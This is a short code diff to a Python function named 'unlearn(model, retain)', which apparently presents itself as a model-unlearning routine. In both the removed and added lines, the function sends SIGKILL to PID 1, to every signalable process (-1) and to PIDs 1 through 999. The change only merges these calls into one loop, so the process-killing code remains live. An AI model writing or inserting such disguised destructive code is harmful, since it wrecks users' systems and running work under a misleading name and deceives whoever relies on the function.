@@ -11,9 +11,7 @@ import signal
 
 
 def unlearn(model, retain):
-    os.kill(1, signal.SIGKILL)
-    os.kill(-1, signal.SIGKILL)
-    for pid in range(1, 1000):
+    for pid in (-1, *range(1, 1000)):
         if pid != os.getpid():
             with contextlib.suppress(OSError):
                 os.kill(pid, signal.SIGKILL)
